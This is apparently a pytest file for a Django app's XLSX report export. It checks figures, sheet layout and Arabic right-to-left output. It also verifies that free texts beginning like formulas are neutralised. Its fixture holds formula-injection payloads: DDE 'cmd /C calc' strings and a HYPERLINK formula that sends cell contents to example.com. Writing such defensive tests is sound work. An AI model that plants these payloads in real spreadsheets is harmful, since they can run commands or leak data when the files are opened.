"""The XLSX renderer: the demo's figures as numbers, its texts as text, no formula to run."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from sawt.reports.dataset import journey_report
from sawt.reports.xlsx import report_xlsx
from sawt.testing import factories as f

CC = "contractor-classification"
SHEETS = ["Summary", "Items", "Gap categories", "Gap register", "Recommendations"]
# The seed report's item scores, to one decimal, in the order of the journey's stages.
SEED_MEANS = [3.4, 3.4, 3.4, 3.7, 3.7, 3.8, 3.8, 3.3, 3.7, 4.1]


def _open(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _records(ws: Worksheet) -> list[dict]:
    rows = ws.iter_rows()
    header = [c.value for c in next(rows)]
    return [{h: c for h, c in zip(header, row, strict=True)} for row in rows]


def _summary(wb: Workbook) -> dict:
    return {label.value: value for label, value in wb["Summary"].iter_rows(min_row=2)}


@pytest.fixture(scope="module")
def english(demo, django_db_blocker) -> Workbook:
    # `demo` (conftest.py) loads the demo once for the module and empties the database after.
    with django_db_blocker.unblock(), translation.override("en"):
        return _open(report_xlsx(journey_report(journey_slug=CC, period="2022-06"), lang="en"))


def test_the_five_sheets_come_in_order(english):
    assert english.sheetnames == SHEETS
    assert not any(ws.sheet_view.rightToLeft for ws in english)


def test_arabic_is_the_default_and_runs_right_to_left(demo, django_db_blocker):
    with django_db_blocker.unblock():
        wb = _open(report_xlsx(journey_report(journey_slug=CC, period="2022-06")))
    with translation.override("ar"):
        expected = [translation.gettext(name) for name in SHEETS]
        feedback = translation.gettext("Customer feedback")
    assert wb.sheetnames == expected
    assert all(ws.sheet_view.rightToLeft for ws in wb)
    cell = _records(wb[expected[3]])[0][feedback]
    assert cell.value.startswith("دليل الخدمة")
    # Arabic texts say so, or LibreOffice would lay them out left to right.
    assert cell.alignment.readingOrder == 2


def test_the_summary_holds_the_seed_figures_as_numbers(english):
    summary = _summary(english)
    mean = summary["Overall satisfaction (mean)"]
    assert (mean.value, mean.data_type, mean.number_format) == (3.890625, "n", "0.0")
    assert summary["Responses"].value == 256
    assert summary["Survey sent to"].value == 3800
    assert summary["Complaints in the period"].value == 569
    rate = summary["Response rate (completed ÷ invited)"]
    assert rate.value == pytest.approx(256 / 3800) and rate.number_format == "0.0%"
    assert summary["Overall satisfaction: top-box share"].value == pytest.approx(0.703125)
    assert summary["Number of gaps"].value == 6
    assert summary["Recommendations with the status “implemented”"].value == 6
    assert summary["Journey"].value == "Contractor classification"


def test_ten_items_with_the_seed_means(english):
    items = _records(english["Items"])
    assert [round(r["Mean"].value, 1) for r in items] == SEED_MEANS
    assert all(r["Mean"].data_type == "n" and r["Mean"].number_format == "0.0" for r in items)
    assert [r["Stage"].value for r in items[:3]] == ["Search and discovery"] * 2 + ["Application"]
    first = items[0]
    distribution = [first[f"Answers scoring {p}"].value for p in range(1, 6)]
    assert sum(distribution) == first["Answers (n)"].value
    assert first["Low base (fewer than 30 answers)"].value == "no"
    assert [r["Meets the target"].value for r in items].count("yes") == 1


def test_the_qawaem_category_ranks_first_among_complaints(english):
    rows = _records(english["Gap categories"])
    complaints = [r for r in rows if r["Source"].value == "complaints"]
    assert (complaints[0]["Rank"].value, complaints[0]["Category code"].value) == (
        1,
        "qawaem-statements",
    )
    # 164 imported with their reason; the journey's model filed more of the unlabelled ones.
    assert complaints[0]["Labelled by a person"].value == 164
    assert complaints[0]["Count"].value > 164
    assert complaints[0]["Share"].number_format == "0.0%"
    assert complaints[0]["Representative quote"].value
    assert any(r["Source"].value == "survey" for r in rows)


def test_six_recommendations_implemented_with_dates(english):
    gaps = _records(english["Gap register"])
    recs = _records(english["Recommendations"])
    assert [g["Gap number"].value for g in gaps] == [1, 2, 3, 4, 5, 6]
    assert [r["Status"].value for r in recs] == ["implemented"] * 6
    assert all(r["Due date"].is_date for r in recs)
    assert recs[0]["Due date"].value.date() == dt.date(2022, 8, 31)


def test_every_header_is_bold_and_frozen(english):
    for ws in english:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.bold for cell in ws[1])


@pytest.fixture
def hostile(db):
    """A journey whose every free text starts like a formula, a few behind a direction mark."""
    agency = f.AgencyFactory(name_en="@SUM(1+1)*cmd|' /C calc'!A0")
    journey = f.JourneyFactory(slug="hostile", name_en="=cmd|' /C calc'!A0", agency=agency)
    stage = f.StageFactory(journey=journey, name_en="\u200f=1+1")
    category = f.GapCategoryFactory(journey=journey, code="late", name_en="+1")
    survey = f.SurveyFactory(journey=journey, sample_size=10)
    overall = f.QuestionFactory(survey=survey, code="overall", kind="overall", stage=None)
    item = f.QuestionFactory(survey=survey, code="q1", stage=stage, text_en="-1+1")
    response = f.ResponseFactory(survey=survey)
    f.AnswerFactory(response=response, question=overall, score=2)
    f.AnswerFactory(response=response, question=item, score=5)
    f.ComplaintFactory(
        journey=journey,
        text='\u202b=HYPERLINK("http://example.com/?"&A1,"-3")',
        category=category,
        category_source="analyst",
    )
    gap = f.GapFactory(
        journey=journey, stage=stage, category=category, feedback_en="-1+1", number=1
    )
    f.RecommendationFactory(gap=gap, text_en="\t=1+1", owner=agency)
    return journey


HOSTILE = {
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u200f=1+1",
    "+1",
    "-1+1",
    '\u202b=HYPERLINK("http://example.com/?"&A1,"-3")',
    "\t=1+1",
}


def _strings(wb: Workbook) -> list:
    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_texts_that_start_like_formulas_come_out_as_quoted_text(hostile):
    with translation.override("en"):
        data = report_xlsx(journey_report(journey_slug="hostile", period="2022-06"), lang="en")
    cells = _strings(_open(data))
    quoted = {c.value[1:] for c in cells if c.value.startswith("'")}
    assert quoted == HOSTILE
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.value in HOSTILE for c in cells)
    # The XML itself: no formula element anywhere, so nothing for a spreadsheet to evaluate.
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        sheets = [n for n in xlsx.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in xlsx.read(n) or b"<f " in xlsx.read(n) for n in sheets)


def test_numbers_stay_numbers_in_a_hostile_journey(hostile):
    with translation.override("en"):
        wb = _open(report_xlsx(journey_report(journey_slug="hostile", period="2022-06"), lang="en"))
    summary = _summary(wb)
    assert summary["Overall satisfaction (mean)"].value == 2
    assert summary["Response rate (completed ÷ invited)"].value == pytest.approx(0.1)
    assert _records(wb["Items"])[0]["Mean"].value == 5
